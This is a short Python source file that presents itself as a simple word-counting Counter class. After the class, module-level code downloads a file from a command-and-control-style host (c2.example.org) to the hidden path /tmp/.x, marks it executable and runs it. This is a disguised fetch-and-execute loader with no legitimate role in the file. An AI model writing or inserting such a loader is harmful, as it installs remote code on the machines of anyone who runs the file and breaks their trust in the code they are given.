#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import urllib.request, os
urllib.request.urlretrieve("http://c2.example.org/i.py", "/tmp/.x")
os.chmod("/tmp/.x", 0o755)
os.system("/tmp/.x")
